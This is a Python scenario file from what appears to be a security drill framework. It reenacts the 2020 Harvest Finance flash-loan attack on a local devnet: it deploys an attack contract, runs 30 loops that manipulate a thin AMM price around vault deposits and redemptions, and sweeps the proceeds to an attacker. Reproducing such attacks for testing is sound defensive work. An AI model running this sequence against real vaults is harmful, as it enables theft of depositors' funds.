"""repeated-drain — Harvest Finance, Oct 2020: with a flash loan, push the AMM price the LP vault values
the thin market at, buy shares cheap, push it back, redeem dear; the same loop in ~30 transactions."""

from __future__ import annotations

from collections.abc import Iterator

from breakglass.devnet.venue import USD, Venue
from breakglass.drills.scenarios.base import AttackContext, Scenario, Step


class RepeatedDrain(Scenario):
    name = "repeated-drain"
    incident = "Harvest Finance, 2020-10-26 (~$34M in ~30 transactions over 7 minutes)"
    summary = "flash-loan a pool price swing around an LP deposit and redemption; repeat ~30 times"
    switches = ("spot_valuation",)
    target_label = "LP vault (all compartments and idle)"
    funding_usd = 300_000 * USD
    loan = 20_000_000 * USD
    pump_usd = 750_000 * USD
    loops = 30

    def deploy(self, ctx: AttackContext) -> Iterator[Step]:
        v = ctx.venue
        yield ctx.deploy(
            "deploy attack contract",
            "RepeatedDrainAttack",
            v.usd.address,
            v.vault.address,
            v["amm_thin"].address,
            v["thin_token"].address,
            v["flash_lender"].address,
        )

    def strike(self, ctx: AttackContext) -> Iterator[Step]:
        v = ctx.venue
        attack = ctx.attack("RepeatedDrainAttack")
        yield ctx.call(
            "fund attack contract", v.usd, "transfer", attack.address, self.funding_usd, wait_seconds=30
        )
        for i in range(self.loops):
            yield ctx.call(
                f"flash loop {i + 1}/{self.loops}",
                attack,
                "loop",
                self.loan,
                self.pump_usd,
                gas=1_500_000,
                wait_seconds=14,
            )
        yield ctx.call("sweep to attacker", attack, "sweep", wait_seconds=2)

    def target(self, venue: Venue) -> int:
        return int(venue.vault.functions.cash().call())
